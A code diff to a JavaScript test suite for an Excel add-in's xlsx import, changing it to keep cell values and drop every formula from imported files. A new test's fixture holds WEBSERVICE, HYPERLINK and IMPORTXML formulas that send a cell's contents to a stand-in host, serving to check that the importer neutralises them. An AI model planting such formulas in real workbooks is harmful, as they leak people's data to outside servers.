@@ -180,7 +180,7 @@ describe('OfficeHost.importXlsx', () => {
     expect(await host.port.listSheets()).toEqual(['Biểu I.2', 'Biểu I.2 (2)']);
   });
 
-  it('writes values, formulas, fonts and merges as new tabs on older Excel', async () => {
+  it('writes values (never a formula of the file), fonts and merges as new tabs on older Excel', async () => {
     const { fake, host } = setUp('1.12');
     fake.addSheet('Biểu I.2', [['đã có']]);
     const r = await host.importXlsx('thon-a.xlsx', await villageFile());
@@ -188,11 +188,27 @@ describe('OfficeHost.importXlsx', () => {
     expect(fake.requests.flatMap((q) => q.ops).some((o) => o.kind === 'insert')).toBe(false);
     const s = fake.sheet('Biểu I.2 (2)');
     expect(s.at('A1')?.value).toBe('KẾ HOẠCH THỰC HIỆN');
-    expect(s.at('D6')).toMatchObject({ formula: '=SUM(D4:D5)', value: 4000000 });
+    expect(s.at('D6')?.value).toBe(4000000);
+    expect(s.at('D6')?.formula).toBeUndefined();
     expect(s.at('B7')).toMatchObject({ value: 'NguyÔn V¨n §ång', font: { name: '.VnTime' } });
     expect(s.at('B4')?.font?.name).toBe('Times New Roman');
     expect(s.merges).toEqual([{ row: 0, col: 0, rows: 1, cols: 4 }]);
     expect(fake.findSheet('_lkh')).toBeUndefined();
+  });
+
+  it.each(['1.13', '1.12'])('never brings a formula of the file into the workbook (ExcelApi %s): WEBSERVICE, IMPORTXML, HYPERLINK arrive as their values', async (version) => {
+    const { fake, host } = setUp(version);
+    fake.addSheet('Sheet1');
+    const wb = new ExcelJS.Workbook();
+    const ws = wb.addWorksheet('Thôn A');
+    ws.getCell('A1').value = { formula: 'WEBSERVICE("https://example.invalid/?d="&B1)', result: 'ok' };
+    ws.getCell('A2').value = { formula: 'HYPERLINK("https://example.invalid/"&B1,"Xem")', result: 'Xem' };
+    ws.getCell('A3').value = { formula: 'IMPORTXML("https://example.invalid","//a")', result: 5 };
+    ws.getCell('B1').value = 'Nguyễn Văn A';
+    const r = await host.importXlsx('thon-a.xlsx', new Uint8Array(await wb.xlsx.writeBuffer()));
+    const sheet = fake.sheet(r.sheets[0]);
+    expect(['A1', 'A2', 'A3'].map((a) => sheet.at(a)?.value)).toEqual(['ok', 'Xem', 5]);
+    expect(['A1', 'A2', 'A3'].map((a) => sheet.at(a)?.formula)).toEqual([undefined, undefined, undefined]);
   });
 
   it('falls back to writing values when the file is too large for one request', async () => {
